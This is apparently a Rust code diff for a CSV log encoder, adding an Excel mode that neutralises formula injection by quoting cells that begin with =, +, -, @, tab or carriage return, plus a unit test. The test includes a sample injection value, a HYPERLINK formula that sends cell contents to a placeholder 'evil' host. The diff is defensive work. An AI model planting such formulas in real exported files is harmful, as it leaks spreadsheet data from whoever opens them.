@@ -59,6 +59,25 @@ fn known(b: &mut Vec<u8>, value: &str) {
     b.extend_from_slice(value.as_bytes());
 }
 
+/// Whether Excel (and other spreadsheets) would run the cell as a formula:
+/// it starts with `=`, `+`, `-`, `@`, a tab or a CR (OWASP's list).
+fn formula_like(value: &[u8]) -> bool {
+    matches!(value.first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+}
+
+/// A cell for `--excel`: one that a spreadsheet would run as a formula
+/// gets a leading `'`, which Excel shows as text and does not display.
+fn excel_cell(b: &mut Vec<u8>, value: &[u8], scratch: &mut Vec<u8>) {
+    if formula_like(value) {
+        scratch.clear();
+        scratch.push(b'\'');
+        scratch.extend_from_slice(value);
+        cell(b, scratch);
+    } else {
+        cell(b, value);
+    }
+}
+
 /// A cell, quoted only when it must be.
 fn cell(b: &mut Vec<u8>, value: &[u8]) {
     if !needs_quotes(value) {
@@ -100,13 +119,23 @@ impl PlainLine {
     }
 }
 
-fn opt(b: &mut Vec<u8>, value: Option<&str>, plain: &Option<PlainLine>) {
-    b.push(b',');
-    if let Some(v) = value {
-        if PlainLine::holds(plain, v) {
-            b.extend_from_slice(v.as_bytes());
-        } else {
-            cell(b, v.as_bytes());
+/// How a row writes its text cells.
+struct Cells<'a> {
+    plain: Option<PlainLine>,
+    /// `--excel`: the scratch buffer for guarded cells.
+    excel: Option<&'a mut Vec<u8>>,
+}
+
+impl Cells<'_> {
+    fn opt(&mut self, b: &mut Vec<u8>, value: Option<&str>) {
+        b.push(b',');
+        let Some(v) = value else {
+            return;
+        };
+        match self.excel.as_deref_mut() {
+            Some(scratch) => excel_cell(b, v.as_bytes(), scratch),
+            None if PlainLine::holds(&self.plain, v) => b.extend_from_slice(v.as_bytes()),
+            None => cell(b, v.as_bytes()),
         }
     }
 }
@@ -129,9 +158,17 @@ impl Encoder for CsvEncoder {
         if self.source.0 != e.source {
             self.source.0 = e.source.to_string();
             self.source.1.clear();
-            cell(&mut self.source.1, e.source.as_bytes());
+            if self.options.excel {
+                excel_cell(&mut self.source.1, e.source.as_bytes(), &mut self.scratch);
+            } else {
+                cell(&mut self.source.1, e.source.as_bytes());
+            }
         }
-        let plain = PlainLine::of(e.raw);
+        let mut guard = Vec::new();
+        let mut cells = Cells {
+            plain: PlainLine::of(e.raw),
+            excel: self.options.excel.then_some(&mut guard),
+        };
         b.extend_from_slice(&self.source.1);
         b.push(b',');
         push_u64(b, e.line);
@@ -140,22 +177,26 @@ impl Encoder for CsvEncoder {
         known(b, e.xslm().unwrap_or(""));
         b.push(b',');
         if let Some(t) = &e.time {
-            t.write_iso(b);
+            t.write_datetime(b);
+        }
+        b.push(b',');
+        if let Some(t) = &e.time {
+            t.write_time_of_day(b);
         }
         known(b, e.time_source.name());
-        opt(b, e.server, &plain);
-        opt(b, e.daemon, &plain);
-        opt(b, e.feature, &plain);
-        opt(b, e.version, &plain);
-        opt(b, e.user, &plain);
-        opt(b, e.host, &plain);
+        cells.opt(b, e.server);
+        cells.opt(b, e.daemon);
+        cells.opt(b, e.feature);
+        cells.opt(b, e.version);
+        cells.opt(b, e.user);
+        cells.opt(b, e.host);
         b.push(b',');
         if let Some(n) = e.count {
             push_u64(b, n);
         }
-        opt(b, e.handle, &plain);
-        opt(b, e.reason, &plain);
-        opt(b, e.code, &plain);
+        cells.opt(b, e.handle);
+        cells.opt(b, e.reason);
+        cells.opt(b, e.code);
         b.push(b',');
         if e.extra.is_empty() {
             b.extend_from_slice(b"{}");
@@ -165,7 +206,7 @@ impl Encoder for CsvEncoder {
             cell(b, &self.scratch);
         }
         if self.options.raw {
-            opt(b, Some(e.raw), &plain);
+            cells.opt(b, Some(e.raw));
         }
         end_row(b, self.options.excel);
     }
@@ -188,6 +229,25 @@ mod tests {
             assert!(!needs_quotes(&vec![b'a'; len]));
         }
         assert!(!needs_quotes("Mª Cruz@é-+ \t;".as_bytes()));
+    }
+
+    #[test]
+    fn excel_cells_never_start_a_formula() {
+        let mut scratch = Vec::new();
+        for (value, written) in [
+            ("=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\""),
+            ("+1", "'+1"),
+            ("-5,346", "\"'-5,346\""),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            ("alice", "alice"),
+            ("a=b", "a=b"),
+        ] {
+            let mut b = Vec::new();
+            excel_cell(&mut b, value.as_bytes(), &mut scratch);
+            assert_eq!(String::from_utf8(b).unwrap(), written, "{value}");
+        }
     }
 
     #[test]
